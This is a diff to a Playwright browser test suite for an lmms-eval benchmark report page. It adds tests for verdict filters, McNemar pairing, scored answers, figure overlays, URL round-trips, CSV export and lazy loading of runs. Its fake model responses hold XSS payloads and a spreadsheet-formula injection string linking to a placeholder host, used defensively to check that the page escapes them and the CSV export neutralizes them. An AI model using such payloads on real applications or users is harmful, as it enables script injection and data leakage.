@@ -3,10 +3,14 @@ real lmms-eval CLI (a loopback model answering with letters, probabilities and h
 `report` command, then the page opened from file://.
 
 Proves: no console error and no request outside the report folder; each verdict filter's count equals the
-count computed here straight from the samples JSONL; the disagreement filter (and the paired table's
-McNemar links) lists exactly the docs one run got right and the other wrong; figures appear for the docs
-that have them; hostile responses stay text and open no dialog. A screenshot per benchmark is saved in
-the test's folder. Run by `make test-browser` (--run-browser)."""
+count computed here straight from the samples JSONL, "not right" equals McNemar's wrong side and an empty
+filter says where the docs are; the disagreement filter (and the paired table's McNemar links) lists
+exactly the docs one run got right and the other not; the scored answer (not the raw response) is shown
+and exported; "no verdict" says why; figures appear and open large in an overlay; links with `&`, `=`,
+`%`, `#`, spaces and non-ASCII round-trip; CSV cells a spreadsheet would run are neutralized and blob
+URLs released; past four runs only the chosen runs load in full. Hostile responses stay text and open no
+dialog. A screenshot per benchmark is saved in the test's folder (and `make screenshot` copies one into
+the README). Run by `make test-browser` (--run-browser)."""
 
 import glob
 import hashlib
@@ -24,28 +28,36 @@ pytestmark = [pytest.mark.browser, pytest.mark.e2e]
 
 CHROMIUM = "/usr/bin/chromium"
 TASKS = {"emma": "emma_mini_math", "msearth": "msearth_mcq", "scifibench": "scifibench_cs_c2f", "musciclaims": "musciclaims_d", "mac": "mac2025_i2t_info"}
+JUDGED = "msearth_open"  # run without a judge: every doc has no verdict, and the page says why
 HOSTILE = [
     "<script>window.__pwned = 1; alert(1)</script>",
     "</script><script>alert(2)</script>",
     '<img src=x onerror="alert(3)">',
     "[click](javascript:alert(4)) **bold** $\\href{javascript:alert(5)}{x}$",
 ]
+FORMULA = '=HYPERLINK("http://x.invalid/?"&A1,"script") '  # a formula, if a spreadsheet ran the CSV cell
 
 
 def responder(letter):
     """Run a answers A (and SUPPORT), run b answers B (and CONTRADICT), each in the form the task reads,
-    so the runs are right on different docs; every third doc's answer carries hostile markup."""
+    so the runs are right on different docs; every third doc's answer carries hostile markup, about half
+    begin with a spreadsheet formula, and run b answers nothing readable on a third of the docs but MAC's."""
     def answer(body):
         text = json.dumps(body.get("messages"), sort_keys=True)
         low = text.lower()
         h = int(hashlib.sha1(text.encode()).hexdigest(), 16)
         hostile = HOSTILE[(h // 3) % len(HOSTILE)] if h % 3 == 0 else ""
+        formula = FORMULA if (h // 5) % 2 == 0 else ""
         if "probability" in low:  # MAC: the official probability JSON
             probs = {x: (0.85 if x == letter else 0.05) for x in "ABCD"}
             return json.dumps(probs) + ("" if not hostile else " " + hostile)
+        if letter == "B" and (h // 7) % 3 == 0:  # run b gives no answer on some docs (no decision, no letter)
+            return "I cannot tell from this figure."
         if "claim" in low:  # MuSciClaims: a decision
             return json.dumps({"decision": "SUPPORT" if letter == "A" else "CONTRADICT"}) + ("" if not hostile else " " + hostile)
-        return f"{hostile} So the answer is \\boxed{{{letter}}}." if hostile else f"The answer is \\boxed{{{letter}}}."
+        if "open-ended" in low:  # MSEarth's open-ended questions: a short answer
+            return f"{hostile} late spring" if hostile else "late spring"
+        return formula + (f"{hostile} So the answer is \\boxed{{{letter}}}." if hostile else f"The answer is \\boxed{{{letter}}}.")
 
     return answer
 
@@ -60,7 +72,7 @@ def report(mirror, hf_home, tmp_path_factory):
         out = root / f"run_{salt}"
         with FakeOpenAIServer(responder=responder(letter)) as srv:
             # two models (model_version): one model's two runs would be one run of the sweep, the newer kept
-            args = ["--model", "openai", "--model_args", openai_args(srv.base_url, model_version=f"fake-{salt}"), "--tasks", ",".join(TASKS.values()), "--output_path", str(out), "--log_samples"]
+            args = ["--model", "openai", "--model_args", openai_args(srv.base_url, model_version=f"fake-{salt}"), "--tasks", ",".join([*TASKS.values(), JUDGED]), "--output_path", str(out), "--log_samples"]
             run_cli(args, cli_env(mirror, hf_home), str(root))
         runs.append(str(out))
     rep = root / "report"
@@ -202,8 +214,8 @@ def test_figures_appear_and_hostile_text_stays_text(page):
     for task in TASKS.values():
         open_task(pg, task, "&q=" + "script")
         hostile_docs += count(pg)[0]
-        texts = [p.inner_text() for p in pg.query_selector_all("pre.response")]
-        assert all("<script>" in t or "script" in t.lower() for t in texts)
+        for card in pg.query_selector_all("article.doc"):  # a doc is listed when a run's response has the text
+            assert any("script" in p.inner_text().lower() for p in card.query_selector_all("pre.response"))
     assert hostile_docs > 0, "no hostile response was served"
     assert pg.evaluate("() => window.__pwned === undefined") and log["dialogs"] == []
     assert pg.evaluate("() => document.querySelectorAll('article.doc script, article.doc img:not([src^=\"browser/img/\"]), a[href^=\"javascript:\"]').length") == 0
@@ -272,3 +284,191 @@ def test_the_filtered_docs_export_as_jsonl_and_csv(page):
 
     table = list(csv.DictReader(open(got.value.path(), newline="")))
     assert sorted(r["doc_id"] for r in table) == want and {"run0_verdict", "run1_response"} <= set(table[0])
+
+
+NOT_RIGHT = {"wrong", "no_answer", "judge_failed"}
+
+
+def test_not_right_is_mcnemars_wrong_side_and_an_empty_filter_says_where_the_docs_are(page):
+    pg, log, root, runs, rep = page
+    hinted = no_answer = 0
+    for task in TASKS.values():
+        a = {str(s["doc_id"]): expected_verdict(task, s) for s in samples_of(runs[0], task)}
+        b = {str(s["doc_id"]): expected_verdict(task, s) for s in samples_of(runs[1], task)}
+        no_answer += sum(v == "no_answer" for v in b.values())
+        # run b's "not right" under the pair filter "A right": exactly McNemar's cell (a right, b not right)
+        open_task(pg, task, "&run=1&verdict=not_right&pair=a_right&a=0&b=1")
+        cell = sorted(d for d in a if a[d] == "right" and b.get(d) in NOT_RIGHT)
+        assert sorted(d for _, d in listed(pg)) == cell, task
+        for run, verdicts in ((0, a), (1, b)):
+            open_task(pg, task, f"&run={run}&verdict=not_right")
+            assert count(pg)[0] == sum(v in NOT_RIGHT for v in verdicts.values()) == int(pg.inner_text("#count-not_right")), (task, run)
+        for v in ("wrong", "right", "no_answer"):  # a fine-grained filter with no doc: the hint says where they are
+            if any(x == v for x in a.values()):
+                continue
+            open_task(pg, task, f"&verdict={v}")
+            assert count(pg)[0] == 0
+            label = {"no_answer": "no answer"}.get(v, v)
+            parts = []
+            for w, text in (("right", "are right"), ("wrong", "are wrong"), ("no_answer", "have no answer")):
+                n = sum(x == w for x in a.values())
+                if n:
+                    parts.append(f"{n} doc{'s' if n > 1 else ''} {text if n > 1 else text.replace('are', 'is').replace('have', 'has')}")
+            assert pg.inner_text("#empty-hint") == f'No "{label}" doc under the other filters: {", ".join(parts)}.', task
+            hinted += 1
+    assert hinted, "no task had an empty verdict: the hint was never shown"
+    assert no_answer, "run b answered every doc: 'not right' was not more than 'wrong'"
+
+
+def option_text(prompt, letter):
+    block = prompt.rsplit("Options:", 1)[1]
+    return next(f"{letter}. {m.group(2)}" for m in re.finditer(r"^[ \t]*([A-Z])[.)][ \t]*(.*\S)[ \t]*$", block, re.M) if m.group(1) == letter)
+
+
+def test_the_scored_answer_is_shown_and_exported_beside_the_raw_response(page):
+    pg, log, root, runs, rep = page
+    task = "msearth_mcq"
+    want = {}
+    for s in samples_of(runs[0], task):
+        r = s["msearth_acc"]
+        want[str(s["doc_id"])] = option_text(s["input"], r["option"]) if r.get("option") else "(no answer)"
+    open_task(pg, task)
+    pg.wait_for_selector("article.doc pre.response")
+    for card in pg.query_selector_all("article.doc"):
+        first = card.query_selector(".run")
+        assert first.query_selector(".answer code").inner_text() == want[card.get_attribute("data-doc")]
+        assert first.query_selector("pre.response").inner_text() != want[card.get_attribute("data-doc")]
+    assert any(v != "(no answer)" for v in want.values())
+    with pg.expect_download() as got:
+        pg.click("#export-csv")
+    import csv
+
+    table = list(csv.DictReader(open(got.value.path(), newline="")))
+    assert {r["doc_id"]: r["run0_scored_answer"] or "(no answer)" for r in table} == want
+    assert all(r["run0_response"] for r in table)
+
+
+def test_no_verdict_says_why(page):
+    pg, log, root, runs, rep = page
+    open_task(pg, JUDGED, "&verdict=no_verdict")
+    total = count(pg)[1]
+    assert count(pg)[0] == total > 0
+    pg.wait_for_selector("article.doc .why")
+    why = pg.query_selector("article.doc .why").inner_text()
+    assert "— no LLM judge was configured for this run, so msearth_oe_acc has no value" in why and "EARTHSCI_JUDGE_BASE_URL" in why
+
+
+def test_a_figure_opens_large_and_a_key_or_click_closes_it(page):
+    pg, log, root, runs, rep = page
+    open_task(pg, "scifibench_cs_c2f")
+    load_images(pg)
+    thumb = pg.query_selector("article.doc .images img")
+    thumb.click()
+    pg.wait_for_selector("#overlay")
+    src = pg.get_attribute("#overlay-img", "src")
+    assert src.startswith("browser/large/") and os.path.exists(os.path.join(rep, src))
+    pg.wait_for_function("() => document.getElementById('overlay-img').complete && document.getElementById('overlay-img').naturalWidth > 0")
+    assert "1 of 5" in pg.inner_text("#overlay-caption")
+    pg.keyboard.press("ArrowRight")
+    assert "2 of 5" in pg.inner_text("#overlay-caption") and pg.get_attribute("#overlay-img", "src") != src
+    pg.keyboard.press("Escape")
+    assert pg.query_selector("#overlay") is None
+    thumb.click()
+    pg.wait_for_selector("#overlay")
+    pg.click("#overlay")
+    assert pg.query_selector("#overlay") is None
+    # the task's own charts: drawn at the browser's width, and they open in the overlay too
+    open_task(pg, "mac2025_i2t_info")
+    pg.click("details.taskcharts summary")
+    chart = pg.query_selector("details.taskcharts img")
+    pg.wait_for_function("() => document.querySelector('details.taskcharts img').complete")
+    assert chart.evaluate("i => i.getBoundingClientRect().width") >= min(900, chart.evaluate("i => i.naturalWidth")) - 1
+    chart.click()
+    assert pg.get_attribute("#overlay-img", "src") == "mac2025_i2t_info_reliability.png"
+    pg.keyboard.press("Escape")
+
+
+def test_links_round_trip_values_with_reserved_characters(page):
+    pg, log, root, runs, rep = page
+    journal = next(s["mac_acc"]["journal"] for s in samples_of(runs[0], "mac2025_i2t_info") if "&" in s["mac_acc"]["journal"])
+    n = sum(s["mac_acc"]["journal"] == journal for s in samples_of(runs[0], "mac2025_i2t_info"))
+    open_task(pg, "mac2025_i2t_info")
+    pg.select_option("#f-field-journal", journal)
+    pg.wait_for_function("j => document.getElementById('f-field-journal').value === j", arg=journal)
+    assert count(pg)[0] == n > 0
+    text = "a&b=c %41 #x ü 漢"
+    pg.fill("#f-q", text)
+    pg.press("#f-q", "Enter")
+    pg.wait_for_function("t => document.getElementById('f-q').value === t && !document.querySelector('#browser .loading')", arg=text)
+    link = pg.evaluate("() => location.hash")
+    assert link.count("#") == 1 and " " not in link
+    pg.reload()
+    pg.wait_for_selector("#match-count")
+    assert pg.input_value("#f-field-journal") == journal and pg.input_value("#f-q") == text
+    # a doc's own link, and a hand-edited link with a stray %: no error, the value as typed
+    pg.evaluate("h => { location.hash = h; }", "#samples?task=emma_mini_math&q=50%")
+    pg.wait_for_function("() => document.getElementById('f-q') && document.getElementById('f-q').value === '50%'")
+    assert log["errors"] == []
+
+
+def test_csv_cells_a_spreadsheet_would_run_are_neutralized_and_blobs_released(page):
+    import csv
+
+    pg, log, root, runs, rep = page
+    pg.evaluate("() => { window.__revoked = []; const r = URL.revokeObjectURL.bind(URL); URL.revokeObjectURL = (u) => { window.__revoked.push(u); r(u); }; }")
+    formulas = 0
+    for task in ("emma_mini_math", "msearth_mcq", "scifibench_cs_c2f"):
+        open_task(pg, task)
+        with pg.expect_download() as got:
+            pg.click("#export-csv")
+        cells = [c for row in csv.reader(open(got.value.path(), newline="")) for c in row]
+        assert not [c for c in cells if c[:1] in ("=", "+", "-", "@", "\t", "\r")], task
+        formulas += sum(c.startswith("'=HYPERLINK") for c in cells)
+    assert formulas > 0, "no response began with a formula: the neutralization was not exercised"
+    pg.wait_for_function("() => window.__revoked.length >= 3", timeout=5000)
+    assert all(u.startswith("blob:") for u in pg.evaluate("() => window.__revoked"))
+
+
+@pytest.fixture(scope="module")
+def sweep_page(report, page, mirror, hf_home):
+    """Six runs (the two real ones and four copies with other checkpoints' answers): past four runs the
+    page loads in full only the runs it shows."""
+    from lmms_eval_earthsci.testing.sweep import clone_run
+
+    root, runs, rep = report
+    folders = list(runs)
+    for i in range(4):
+        (results,) = glob.glob(os.path.join(runs[i % 2], "*", "*_results.json"))
+        clone_run(results, str(root / f"clone_{i}"), model_args=f"model_version=fake-clone-{i}", flip=0.3, seed=i)
+        folders.append(str(root / f"clone_{i}"))
+    out = root / "sweep_report"
+    proc = subprocess.run([os.path.join(VENV_BIN, "lmms-eval-earthsci"), "report", *folders, "--out", str(out), "--resamples", "0", "--no-images"], env=cli_env(mirror, hf_home), capture_output=True, text=True, timeout=600)
+    assert proc.returncode == 0, proc.stderr[-3000:]
+    pg = page[0].context.browser.new_page(viewport={"width": 1300, "height": 1200})  # the same Chromium
+    requests = []
+    pg.on("request", lambda r: requests.append(r.url))
+    pg.goto(f"file://{out}/report.html#samples?task=emma_mini_math")
+    pg.wait_for_selector("#match-count")
+    yield pg, requests
+    pg.close()
+
+
+def test_past_four_runs_only_the_chosen_runs_load_in_full(sweep_page):
+    pg, requests = sweep_page
+    pg.wait_for_selector("article.doc pre.response")
+    assert pg.evaluate("() => document.getElementById('f-run').options.length") == 6
+    loaded = lambda: sorted(int(re.search(r"_r(\d+)\.js$", u).group(1)) for u in requests if re.search(r"/data/t\d+_r\d+\.js$", u))
+    assert loaded() == [0, 1]  # run 0 (verdicts of), A = 0, B = 1
+    card = pg.query_selector("article.doc")
+    assert len(card.query_selector_all(".runs .run")) == 2
+    others = card.query_selector("details.otherruns")
+    assert others.query_selector("summary").inner_text() == "the other 4 runs"
+    others.query_selector("summary").click()
+    others.query_selector_all("button.more")[1].click()  # the fourth run (index 3)
+    pg.wait_for_function("() => document.querySelector('article.doc').querySelectorAll('.runs .run').length === 3")
+    assert loaded() == [0, 1, 3]
+    names = pg.evaluate("() => [...document.getElementById('f-run').options].map(o => o.text)")
+    pg.select_option("#f-b", "5")  # B: run 5 instead of run 1; run 3 stays open
+    want = [names[0], names[3], names[5]]
+    pg.wait_for_function("w => JSON.stringify([...document.querySelector('article.doc').querySelectorAll('.runs .run h4')].map(h => h.textContent)) === JSON.stringify(w)", arg=want)
+    assert loaded() == [0, 1, 3, 5]
